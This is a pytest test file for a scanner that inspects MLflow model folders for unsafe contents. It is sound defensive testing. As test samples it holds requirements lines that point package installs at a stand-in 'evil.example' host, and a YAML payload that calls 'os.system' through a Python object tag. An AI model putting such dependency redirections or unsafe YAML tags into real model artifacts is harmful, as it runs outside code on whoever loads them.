"""The text files of an MLflow model, read as data."""

from __future__ import annotations

from pathlib import Path

import pytest

from sanitize.errors import ArtifactError, UnsafeArtifactError
from sanitize.suspects.mlmodel import inspect_folder, read_mlmodel

STOCK = """
flavors:
  python_function: {loader_module: mlflow.pytorch, pickle_module_name: mlflow.pytorch.pickle_module, data: data}
  pytorch: {code: null, model_data: data}
"""


def inspect(folder: Path) -> dict[str, str]:
    files = sorted(file for file in folder.rglob("*") if file.is_file())
    return {finding.rule: finding.message for finding in inspect_folder(folder, files)}


def test_stock_model_gives_no_findings(tmp_path: Path):
    (tmp_path / "MLmodel").write_text(STOCK)
    (tmp_path / "pickle_module_info.txt").write_text("mlflow.pytorch.pickle_module")
    (tmp_path / "requirements.txt").write_text("mlflow==3.17.2\ntorch==2.15.0\n")
    (tmp_path / "conda.yaml").write_text("channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip:\n  - torch\n")
    (tmp_path / "python_env.yaml").write_text("python: 3.11.7\ndependencies:\n- -r requirements.txt\n")
    assert inspect(tmp_path) == {}


def test_what_would_run_is_named(tmp_path: Path):
    text = STOCK.replace("loader_module: mlflow.pytorch", "loader_module: evil").replace("code: null", "code: code")
    (tmp_path / "MLmodel").write_text(text.replace("mlflow.pytorch.pickle_module", "worse"))
    (tmp_path / "requirements.txt").write_text(
        "torch\n--index-url https://evil.example/simple\ngit+https://evil.example\n"
    )
    (tmp_path / "code").mkdir()
    (tmp_path / "code" / "evil.py").write_text("")
    found = inspect(tmp_path)
    assert "'evil'" in found["artifact-loader-module"]
    assert "'worse'" in found["artifact-pickle-module"]
    assert "evil.example" in found["artifact-requirements"]
    assert "code/evil.py" in found["artifact-code"]


@pytest.mark.parametrize(
    ("text", "error", "reason"),
    [
        ("!!python/object/apply:os.system ['touch canary']", ArtifactError, "not readable as YAML data"),
        ("a: &a [x]\n" + "".join(f"b{i}: *a\n" for i in range(40)), UnsafeArtifactError, "alias bomb"),
        ("[" * 5000, UnsafeArtifactError, "nested deeper"),
        ("just text", ArtifactError, "no YAML mapping"),
        ("a: " + "x" * 5_000_000, UnsafeArtifactError, "absurd"),
        ("a: \x00", ArtifactError, "not readable"),
    ],
)
def test_hostile_yaml(tmp_path: Path, text: str, error: type[Exception], reason: str):
    (tmp_path / "MLmodel").write_text(text)
    with pytest.raises(error, match=reason):
        read_mlmodel(tmp_path / "MLmodel")
